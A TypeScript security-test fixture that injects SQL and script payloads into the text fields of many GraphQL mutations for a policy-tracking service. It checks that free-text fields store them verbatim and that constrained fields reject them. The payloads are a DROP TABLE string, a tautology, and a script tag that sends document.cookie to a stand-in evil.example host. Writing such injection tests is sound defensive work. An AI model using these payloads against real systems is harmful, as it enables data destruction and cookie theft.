// SQL- and script-injection strings in every text field of every mutation input. Free-text fields must
// store them verbatim (parameterised queries, no interpretation); constrained fields must reject them.
import { FX } from './fixture';
import { gql, type BadCase, type StoredCase } from './types';

const PAYLOADS = {
  'SQL drop': `'); DROP TABLE "User"; --`,
  'SQL tautology': `' OR '1'='1' --`,
  'script tag': `<script>fetch('//evil.example/'+document.cookie)</script>`,
} as const;

type Outcome = { read: string } | { code: string };
interface Target {
  mutation: string;
  document: string;
  base: () => Record<string, unknown>;
  writes: string[];
  fields: Record<string, Outcome>;
  /** The caller's bearer token, when not the bootstrap ADMIN_TOKEN. */
  token?: string;
}

const store = (table: string, column: string): Outcome => ({ read: `SELECT "${column}"::text AS v FROM "${table}"` });
const REC_TEXT = {
  titleZh: store('Recommendation', 'titleZh'),
  titleEn: store('Recommendation', 'titleEn'),
  summaryEn: store('Recommendation', 'summaryEn'),
  // A quote is a span of its document's text (catalog/quoteCheck.ts): an injected one is not, and is refused.
  quote: { code: 'BAD_USER_INPUT' } as Outcome,
};
const newRec = (code: string, theme: string) => ({
  code,
  theme,
  titleZh: '新',
  titleEn: 'New',
  summaryEn: 'New.',
  quote: '新引文',
});
// An audited write on a recommendation is also a change of the feed (its trigger writes ChangeEvent).
const AUDITED = ['AuditEntry', 'ChangeEvent'];

const newIndicator = {
  recommendationCode: FX.rec,
  nameZh: '指标',
  nameEn: 'Indicator',
  unit: 'factories',
  direction: 'INCREASE',
  disaggregation: 'Region',
  baseline: { value: 0, date: '2025-01-01', source: 'A source' },
  targets: [{ value: 100, dueDate: '2025-04-11' }],
};
const INDICATOR_TEXT = {
  nameZh: store('Indicator', 'nameZh'),
  nameEn: store('Indicator', 'nameEn'),
  unit: store('Indicator', 'unit'),
  disaggregation: store('Indicator', 'disaggregation'),
  'baseline.source': store('Indicator', 'baselineSource'),
};

const TARGETS: Target[] = [
  {
    mutation: 'createIndicator',
    document: 'mutation M($input: CreateIndicatorInput!) { createIndicator(input: $input) { id } }',
    base: () => ({ input: structuredClone(newIndicator) }),
    writes: ['Indicator', 'IndicatorRevision', ...AUDITED],
    fields: {
      'input.recommendationCode': { code: 'NOT_FOUND' },
      'input.code': { code: 'BAD_USER_INPUT' },
      ...prefixed('input.', INDICATOR_TEXT),
    },
  },
  {
    mutation: 'updateIndicator',
    document: 'mutation M($input: UpdateIndicatorInput!) { updateIndicator(input: $input) { id } }',
    base: () => ({
      input: {
        id: FX.indicatorId,
        expectedVersion: 1,
        ...structuredClone(newIndicator),
        recommendationCode: undefined,
      },
    }),
    writes: ['Indicator', 'IndicatorRevision', ...AUDITED],
    fields: { 'input.id': { code: 'BAD_USER_INPUT' }, ...prefixed('input.', INDICATOR_TEXT) },
  },
  {
    mutation: 'archiveIndicator',
    document: 'mutation M($input: ArchiveIndicatorInput!) { archiveIndicator(input: $input) { id } }',
    base: () => ({ input: { id: FX.indicatorId, expectedVersion: 1 } }),
    writes: ['Indicator', 'IndicatorRevision', ...AUDITED],
    fields: { 'input.id': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'recordIndicatorValue',
    document: 'mutation M($input: RecordIndicatorValueInput!) { recordIndicatorValue(input: $input) { value { id } } }',
    base: () => ({
      input: {
        indicatorId: FX.indicatorId,
        periodStart: '2025-01-01',
        periodEnd: '2025-01-31',
        value: 10,
        note: 'A note',
        evidenceUrls: ['https://example.org/a'],
      },
    }),
    writes: [
      'IndicatorValue',
      'IndicatorRevision',
      'Indicator',
      'ProgressUpdate',
      'Evidence',
      'Recommendation',
      ...AUDITED,
    ],
    fields: {
      'input.indicatorId': { code: 'BAD_USER_INPUT' },
      'input.note': store('IndicatorValue', 'note'),
      'input.evidenceUrls.0': { code: 'BAD_USER_INPUT' },
      'input.correctsId': { code: 'BAD_USER_INPUT' },
    },
  },
  {
    mutation: 'logProgress',
    document: 'mutation M($input: LogProgressInput!) { logProgress(input: $input) { update { id note } } }',
    base: () => ({
      input: {
        code: FX.rec,
        note: 'Draft out',
        status: 'ABANDONED',
        reason: 'Dropped',
        progress: 10,
        evidenceUrls: ['https://example.org/a'],
      },
    }),
    writes: ['ProgressUpdate', 'Evidence', 'Recommendation', ...AUDITED],
    fields: {
      'input.code': { code: 'NOT_FOUND' },
      'input.note': store('ProgressUpdate', 'note'),
      'input.reason': store('ProgressUpdate', 'note'),
      'input.evidenceUrls.0': { code: 'BAD_USER_INPUT' },
      'input.correctsId': { code: 'BAD_USER_INPUT' },
    },
  },
  {
    mutation: 'setOwners',
    document: 'mutation M($input: SetOwnersInput!) { setOwners(input: $input) { code } }',
    base: () => ({ input: { code: FX.rec, owners: [{ name: 'Ministry', kind: 'MINISTRY' }] } }),
    writes: ['Owner', 'OwnerName', 'RecommendationOwner', 'Recommendation', ...AUDITED],
    fields: { 'input.code': { code: 'NOT_FOUND' }, 'input.owners.0.name': store('Owner', 'name') },
  },
  {
    mutation: 'setTargetDate',
    document: 'mutation M($input: SetTargetDateInput!) { setTargetDate(input: $input) { code } }',
    base: () => ({ input: { code: FX.rec, targetDate: '2030-01-01', reason: 'Plan' } }),
    writes: ['TargetDateRevision', 'Recommendation', ...AUDITED],
    fields: { 'input.code': { code: 'NOT_FOUND' }, 'input.reason': store('TargetDateRevision', 'reason') },
  },
  {
    mutation: 'createRecommendation',
    document: 'mutation M($input: CreateRecommendationInput!) { createRecommendation(input: $input) { code } }',
    base: () => ({
      input: { ...newRec('GOV-SANDBOX-09', FX.theme), owners: [{ name: 'Regulator', kind: 'REGULATOR' }] },
    }),
    writes: ['Recommendation', 'Owner', 'OwnerName', 'RecommendationOwner', ...AUDITED],
    fields: {
      'input.code': { code: 'BAD_USER_INPUT' },
      'input.theme': { code: 'BAD_USER_INPUT' },
      ...prefixed('input.', REC_TEXT),
      'input.owners.0.name': store('Owner', 'name'),
    },
  },
  {
    mutation: 'updateRecommendation',
    document: 'mutation M($input: UpdateRecommendationInput!) { updateRecommendation(input: $input) { code } }',
    base: () => ({
      input: {
        code: FX.rec,
        titleZh: '改',
        titleEn: 'Changed',
        summaryEn: 'Changed.',
        quote: '改引文',
        quoteChangeReason: 'Typo',
      },
    }),
    writes: ['Recommendation', 'QuoteRevision', ...AUDITED],
    fields: {
      'input.code': { code: 'NOT_FOUND' },
      'input.theme': { code: 'BAD_USER_INPUT' },
      ...prefixed('input.', REC_TEXT),
      'input.quoteChangeReason': store('QuoteRevision', 'reason'),
    },
  },
  {
    mutation: 'archiveRecommendation',
    document: 'mutation M($code: String!) { archiveRecommendation(code: $code) { code } }',
    base: () => ({ code: FX.rec }),
    writes: ['Recommendation', ...AUDITED],
    fields: { code: { code: 'NOT_FOUND' } },
  },
  {
    mutation: 'restoreRecommendation',
    document: 'mutation M($code: String!) { restoreRecommendation(code: $code) { code } }',
    base: () => ({ code: FX.archived }),
    writes: ['Recommendation', ...AUDITED],
    fields: { code: { code: 'NOT_FOUND' } },
  },
  {
    mutation: 'createSourceDocument',
    document: 'mutation M($input: CreateSourceDocumentInput!) { createSourceDocument(input: $input) { slug } }',
    base: () => ({
      input: {
        slug: 'new-doc',
        titleZh: '新文件',
        titleEn: 'New document',
        author: 'Someone',
        url: 'https://example.org/doc',
        themes: [{ code: 'NEWT', pillar: 'DEVELOPMENT', nameZh: '新主题', nameEn: 'New theme', sectionZh: '第一节' }],
        recommendations: [newRec('DEV-NEWT-01', 'NEWT')],
        content: '第一节：新引文。',
      },
    }),
    // The document's original (its text/plain content) is kept in the evidence store.
    writes: ['SourceDocument', 'Theme', 'Recommendation', 'EvidenceArchive', ...AUDITED],
    fields: {
      'input.slug': { code: 'BAD_USER_INPUT' },
      'input.titleZh': store('SourceDocument', 'titleZh'),
      'input.titleEn': store('SourceDocument', 'titleEn'),
      'input.author': store('SourceDocument', 'author'),
      'input.url': { code: 'BAD_USER_INPUT' },
      'input.themes.0.code': { code: 'BAD_USER_INPUT' },
      'input.themes.0.nameZh': store('Theme', 'nameZh'),
      'input.themes.0.nameEn': store('Theme', 'nameEn'),
      'input.themes.0.sectionZh': store('Theme', 'sectionZh'),
      'input.recommendations.0.code': { code: 'BAD_USER_INPUT' },
      'input.recommendations.0.theme': { code: 'BAD_USER_INPUT' },
      ...prefixed('input.recommendations.0.', REC_TEXT),
    },
  },
  {
    mutation: 'addSourceDocument',
    document: 'mutation M($input: AddSourceDocumentInput!) { addSourceDocument(input: $input) { slug } }',
    base: () => ({
      input: {
        slug: 'added-doc',
        titleZh: '新文件',
        titleEn: 'Added document',
        publisher: 'A ministry',
        url: 'https://example.org/added',
        content: '# 第一节\n\n加快完善相关制度。',
        mediaType: 'text/markdown',
        themes: [{ code: 'ADDT', nameZh: '新主题', nameEn: 'New theme', sectionZh: '第一节' }],
      },
    }),
    writes: ['SourceDocument', 'Theme', 'EvidenceArchive', 'AuditEntry'],
    fields: {
      'input.slug': { code: 'BAD_USER_INPUT' },
      'input.titleZh': store('SourceDocument', 'titleZh'),
      'input.titleEn': store('SourceDocument', 'titleEn'),
      'input.publisher': store('SourceDocument', 'publisher'),
      'input.url': { code: 'BAD_USER_INPUT' },
      'input.mediaType': { code: 'BAD_USER_INPUT' },
      'input.uploadId': { code: 'BAD_USER_INPUT' },
      'input.themes.0.code': { code: 'BAD_USER_INPUT' },
      'input.themes.0.nameZh': store('Theme', 'nameZh'),
    },
  },
  {
    mutation: 'reviseSourceDocument',
    document:
      'mutation M($input: ReviseSourceDocumentInput!) { reviseSourceDocument(input: $input) { revision { state } } }',
    base: () => ({ input: { slug: FX.doc, content: '引文。新引文。改引文。修订。' } }),
    writes: ['SourceDocument', 'DocumentRevision', 'EvidenceArchive', 'AuditEntry'],
    fields: {
      'input.slug': { code: 'NOT_FOUND' },
      'input.mediaType': { code: 'BAD_USER_INPUT' },
      'input.uploadId': { code: 'BAD_USER_INPUT' },
    },
  },
  {
    mutation: 'createTheme',
    document: 'mutation M($input: CreateThemeInput!) { createTheme(input: $input) { code } }',
    base: () => ({
      input: { documentSlug: FX.doc, code: 'LATER', nameZh: '后来', nameEn: 'Later', sectionZh: '末节' },
    }),
    writes: ['Theme', 'AuditEntry'],
    fields: {
      'input.documentSlug': { code: 'NOT_FOUND' },
      'input.code': { code: 'BAD_USER_INPUT' },
      'input.nameZh': store('Theme', 'nameZh'),
      'input.nameEn': store('Theme', 'nameEn'),
      'input.sectionZh': store('Theme', 'sectionZh'),
    },
  },
  {
    mutation: 'linkRecommendations',
    document: 'mutation M($input: LinkRecommendationsInput!) { linkRecommendations(input: $input) { code } }',
    base: () => ({ input: { from: FX.rec, to: FX.linked, kind: 'SAME_MEASURE' } }),
    writes: ['RecommendationLink', ...AUDITED],
    fields: { 'input.from': { code: 'NOT_FOUND' }, 'input.to': { code: 'NOT_FOUND' } },
  },
  {
    mutation: 'unlinkRecommendations',
    document: 'mutation M($input: LinkRecommendationsInput!) { unlinkRecommendations(input: $input) { code } }',
    base: () => ({ input: { from: FX.rec, to: FX.linked, kind: 'RELATED' } }),
    writes: ['RecommendationLink', ...AUDITED],
    fields: { 'input.from': { code: 'NOT_FOUND' }, 'input.to': { code: 'NOT_FOUND' } },
  },
  {
    mutation: 'createOwner',
    document: 'mutation M($input: CreateOwnerInput!) { createOwner(input: $input) { id } }',
    base: () => ({ input: { nameEn: 'Data Office', kind: 'OTHER', aliases: ['DO'] } }),
    writes: ['Owner', 'OwnerName', ...AUDITED],
    fields: {
      'input.nameZh': store('Owner', 'nameZh'),
      'input.nameEn': store('Owner', 'nameEn'),
      'input.aliases.0': store('OwnerName', 'name'),
      'input.kind': { code: 'BAD_USER_INPUT' },
    },
  },
  {
    mutation: 'updateOwner',
    document: 'mutation M($input: UpdateOwnerInput!) { updateOwner(input: $input) { id } }',
    base: () => ({ input: { id: FX.ownerA, nameEn: 'Renamed', aliases: ['R'] } }),
    writes: ['Owner', 'OwnerName', ...AUDITED],
    fields: {
      'input.id': { code: 'BAD_USER_INPUT' },
      'input.nameEn': store('Owner', 'nameEn'),
      'input.aliases.0': store('OwnerName', 'name'),
    },
  },
  {
    mutation: 'mergeOwners',
    document: 'mutation M($input: MergeOwnersInput!) { mergeOwners(input: $input) { id } }',
    base: () => ({ input: { sourceId: FX.ownerA, targetId: FX.ownerB } }),
    writes: ['Owner', 'OwnerName', 'RecommendationOwner', 'Recommendation', ...AUDITED],
    fields: { 'input.sourceId': { code: 'BAD_USER_INPUT' }, 'input.targetId': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'archiveOwner',
    document: 'mutation M($id: ID!) { archiveOwner(id: $id) { id } }',
    base: () => ({ id: FX.ownerA }),
    writes: ['Owner', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'restoreOwner',
    document: 'mutation M($id: ID!) { restoreOwner(id: $id) { id } }',
    base: () => ({ id: FX.ownerA }),
    writes: ['Owner', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'createUser',
    document: 'mutation M($input: CreateUserInput!) { createUser(input: $input) { name } }',
    base: () => ({ input: { name: 'dave', role: 'ANALYST' } }),
    writes: ['User', ...AUDITED],
    fields: { 'input.name': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'issueToken',
    document: 'mutation M($input: IssueTokenInput!) { issueToken(input: $input) { apiToken { label } } }',
    base: () => ({ input: { userName: FX.user, label: 'ci', readOnly: true } }),
    writes: ['ApiToken', ...AUDITED],
    fields: {
      'input.userName': { code: 'BAD_USER_INPUT' },
      'input.label': store('ApiToken', 'label'),
      'input.readOnly': { code: 'BAD_USER_INPUT' },
    },
  },
  ...(['follow', 'unfollow'] as const).map((mutation) => ({
    mutation,
    document: `mutation M($input: FollowInput!) { ${mutation}(input: $input) { themes { code } } }`,
    base: () => ({ input: { recommendationCode: FX.rec } }),
    writes: ['Follow', ...AUDITED],
    fields: { 'input.recommendationCode': { code: 'NOT_FOUND' } },
  })),
  {
    // Both fields are constrained (an enum and a boolean): an injected string is refused before any write.
    mutation: 'setPreferences',
    document: 'mutation M($input: SetPreferencesInput!) { setPreferences(input: $input) { name } }',
    base: () => ({ input: { language: 'ZH', chartsOpen: false } }),
    writes: ['Preference', ...AUDITED],
    fields: { 'input.language': { code: 'BAD_USER_INPUT' }, 'input.chartsOpen': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'revokeToken',
    document: 'mutation M($id: ID!) { revokeToken(id: $id) { id } }',
    base: () => ({ id: FX.tokenId }),
    writes: ['ApiToken', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    // The sheet's own cells are free text that the verbs above store (tests/exchange/import.test.ts stores
    // these payloads from a note cell); here, the constrained fields of the input itself.
    mutation: 'importSpreadsheet',
    document: 'mutation M($input: ImportSpreadsheetInput!) { importSpreadsheet(input: $input) { applied } }',
    base: () => ({
      input: { kind: 'PROGRESS', format: 'CSV', content: `rowKey,code,note\r\nk-1,${FX.rec},Note\r\n`, dryRun: false },
    }),
    writes: ['ProgressUpdate', 'Recommendation', ...AUDITED],
    fields: { 'input.kind': { code: 'BAD_USER_INPUT' }, 'input.format': { code: 'BAD_USER_INPUT' } },
  },
  {
    // A literal public address: registration resolves nothing, and no event is delivered.
    mutation: 'createWebhook',
    document: 'mutation M($input: CreateWebhookInput!) { createWebhook(input: $input) { webhook { url } } }',
    base: () => ({
      input: { url: 'https://93.184.216.34/hooks', events: ['PROGRESS_LOGGED'], filter: { search: 'x' } },
    }),
    writes: ['Webhook', ...AUDITED],
    fields: {
      'input.url': { code: 'BAD_USER_INPUT' },
      'input.filter.search': { read: `SELECT "filter"->>'search' AS v FROM "Webhook"` },
    },
  },
  {
    mutation: 'enableWebhook',
    document: 'mutation M($id: ID!) { enableWebhook(id: $id) { id } }',
    base: () => ({ id: '1' }),
    writes: ['Webhook', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'deleteWebhook',
    document: 'mutation M($id: ID!) { deleteWebhook(id: $id) { id } }',
    base: () => ({ id: '1' }),
    writes: ['Webhook', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    // Only a named reviewer signs a text (src/domain/catalog/textOrigin.ts).
    mutation: 'markTextReviewed',
    document: 'mutation M($input: MarkTextReviewedInput!) { markTextReviewed(input: $input) { code } }',
    base: () => ({ input: { code: FX.rec, fields: ['TITLE_EN'] } }),
    token: FX.namedAdminToken,
    writes: ['Recommendation', ...AUDITED],
    fields: { 'input.code': { code: 'NOT_FOUND' }, 'input.fields.0': { code: 'BAD_USER_INPUT' } },
  },
  // A roll-up's codes are constrained (catalog/rollup.ts): an injected one names no record, or no child.
  {
    mutation: 'setRollup',
    document: 'mutation M($input: SetRollupInput!) { setRollup(input: $input) { code } }',
    base: () => ({ input: { code: FX.rec, rule: 'WEIGHTED_MEAN', weights: [{ code: `${FX.rec}.1`, weight: 1 }] } }),
    writes: ['RollupRevision', 'Recommendation', ...AUDITED],
    fields: { 'input.code': { code: 'NOT_FOUND' }, 'input.weights.0.code': { code: 'BAD_USER_INPUT' } },
  },
  // Sessions and passwords (src/domain/access/signin.ts, sessions.ts). A password is neither stored (only its
  // Argon2id hash is) nor read as anything; its rules are tests/access/signinDefences.test.ts's "password rules".
  {
    mutation: 'setPassword',
    document: 'mutation M($input: SetPasswordInput!) { setPassword(input: $input) { name } }',
    base: () => ({ input: { userName: FX.user, password: 'a quiet harbour at dawn' } }),
    writes: ['User', 'Session', 'SigninFailure', ...AUDITED],
    fields: { 'input.userName': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'addMembership',
    document: 'mutation M($input: MembershipInput!) { addMembership(input: $input) { name } }',
    base: () => ({ input: { userName: FX.user, ownerId: FX.ownerA } }),
    writes: ['Membership', ...AUDITED],
    fields: { 'input.userName': { code: 'BAD_USER_INPUT' }, 'input.ownerId': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'removeMembership',
    document: 'mutation M($input: MembershipInput!) { removeMembership(input: $input) { name } }',
    base: () => ({ input: { userName: FX.user, ownerId: FX.ownerA } }),
    writes: ['Membership', ...AUDITED],
    fields: { 'input.userName': { code: 'BAD_USER_INPUT' }, 'input.ownerId': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'endSessions',
    document: 'mutation M($userName: String!) { endSessions(userName: $userName) { name } }',
    base: () => ({ userName: FX.user }),
    writes: ['Session', ...AUDITED],
    fields: { userName: { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'setRole',
    document: 'mutation M($input: SetRoleInput!) { setRole(input: $input) { name } }',
    base: () => ({ input: { userName: FX.user, role: 'ANALYST' } }),
    writes: ['User', ...AUDITED],
    fields: { 'input.userName': { code: 'BAD_USER_INPUT' }, 'input.role': { code: 'BAD_USER_INPUT' } },
  },
  ...(['disableUser', 'enableUser'] as const).map((mutation) => ({
    mutation,
    document: `mutation M($userName: String!) { ${mutation}(userName: $userName) { name } }`,
    base: () => ({ userName: FX.user }),
    writes: ['User', 'Session', ...AUDITED],
    fields: { userName: { code: 'BAD_USER_INPUT' } },
  })),
  {
    // One's own session: as the fixture's account, since ADMIN_TOKEN has none.
    mutation: 'endSession',
    document: 'mutation M($id: ID!) { endSession(id: $id) { name } }',
    base: () => ({ id: 'U2Vzc2lvbjox' }),
    token: FX.userToken,
    writes: ['Session', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    // One's own passkey: as the fixture's account, since ADMIN_TOKEN has none.
    mutation: 'removePasskey',
    document: 'mutation M($id: ID!) { removePasskey(id: $id) { name } }',
    base: () => ({ id: 'UGFzc2tleTox' }),
    token: FX.userToken,
    writes: ['Passkey', ...AUDITED],
    fields: { id: { code: 'BAD_USER_INPUT' } },
  },
  {
    // Both of its inputs are passwords (see above): nothing to inject that could be stored or interpreted.
    mutation: 'changePassword',
    document: 'mutation M($input: ChangePasswordInput!) { changePassword(input: $input) { name } }',
    base: () => ({ input: { currentPassword: 'x', newPassword: 'y' } }),
    token: FX.userToken,
    writes: [],
    fields: {},
  },
  // A second pair of eyes (src/domain/log/review.ts).
  {
    mutation: 'approveProposal',
    document: 'mutation M($input: ApproveProposalInput!) { approveProposal(input: $input) { proposal { state } } }',
    base: () => ({ input: { id: FX.proposalId, expectedVersion: 1 } }),
    writes: ['Proposal', 'ProgressUpdate', 'Recommendation', ...AUDITED],
    fields: { 'input.id': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'rejectProposal',
    document: 'mutation M($input: RejectProposalInput!) { rejectProposal(input: $input) { proposal { state } } }',
    base: () => ({ input: { id: FX.proposalId, reason: 'Not yet' } }),
    writes: ['Proposal', ...AUDITED],
    fields: { 'input.id': { code: 'BAD_USER_INPUT' }, 'input.reason': store('Proposal', 'rejectionReason') },
  },
  // Candidates (src/domain/documents/extraction): decisions are no change of a record, so no ChangeEvent, except
  // the record an accept creates.
  {
    mutation: 'extractCandidates',
    document: 'mutation M($documentId: ID!) { extractCandidates(documentId: $documentId) { slug } }',
    base: () => ({ documentId: FX.candidateDoc }),
    writes: ['Candidate', 'SourceDocument', 'AuditEntry'],
    fields: { documentId: { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'acceptCandidate',
    document: 'mutation M($input: AcceptCandidateInput!) { acceptCandidate(input: $input) { state } }',
    base: () => ({
      input: {
        id: FX.candidateId,
        code: 'POL-01',
        theme: FX.candidateTheme,
        titleZh: '制度',
        titleEn: 'Rules',
        summaryZh: '制度。',
        summaryEn: 'Rules.',
      },
    }),
    writes: ['Candidate', 'Recommendation', ...AUDITED],
    fields: {
      'input.id': { code: 'BAD_USER_INPUT' },
      'input.code': { code: 'BAD_USER_INPUT' },
      'input.theme': { code: 'BAD_USER_INPUT' },
      'input.titleZh': store('Recommendation', 'titleZh'),
      'input.titleEn': store('Recommendation', 'titleEn'),
      'input.summaryZh': store('Recommendation', 'summaryZh'),
      'input.summaryEn': store('Recommendation', 'summaryEn'),
    },
  },
  {
    mutation: 'mergeCandidate',
    document: 'mutation M($input: MergeCandidateInput!) { mergeCandidate(input: $input) { state } }',
    base: () => ({ input: { id: FX.candidateId, code: FX.rec } }),
    writes: ['Candidate', 'AuditEntry'],
    fields: { 'input.id': { code: 'BAD_USER_INPUT' }, 'input.code': { code: 'BAD_USER_INPUT' } },
  },
  {
    mutation: 'rejectCandidate',
    document: 'mutation M($input: RejectCandidateInput!) { rejectCandidate(input: $input) { state } }',
    base: () => ({ input: { id: FX.candidateId, reason: 'Not a measure' } }),
    writes: ['Candidate', 'AuditEntry'],
    fields: { 'input.id': { code: 'BAD_USER_INPUT' }, 'input.reason': store('Candidate', 'rejectionReason') },
  },
];

function prefixed(prefix: string, fields: Record<string, Outcome>): Record<string, Outcome> {
  return Object.fromEntries(Object.entries(fields).map(([k, v]) => [prefix + k, v]));
}

function setPath(target: Record<string, unknown>, path: string, value: unknown): Record<string, unknown> {
  const keys = path.split('.');
  let node = target as Record<string, unknown>;
  for (const key of keys.slice(0, -1)) node = node[key] as Record<string, unknown>;
  node[keys.at(-1)!] = value;
  return target;
}

export const INJECTED_MUTATIONS = TARGETS.map((t) => t.mutation);

export function injectionCases(): { rejected: BadCase[]; stored: StoredCase[] } {
  const rejected: BadCase[] = [];
  const stored: StoredCase[] = [];
  for (const t of TARGETS) {
    for (const [path, outcome] of Object.entries(t.fields)) {
      for (const [kind, payload] of Object.entries(PAYLOADS)) {
        const body = gql(t.document, setPath(t.base(), path, payload));
        const name = `${kind} in ${t.mutation} ${path}`;
        if ('code' in outcome) rejected.push({ name, body, status: 200, code: outcome.code, token: t.token });
        else stored.push({ name, body, payload, readBack: outcome.read, writes: t.writes, token: t.token });
      }
    }
  }
  return { rejected, stored };
}
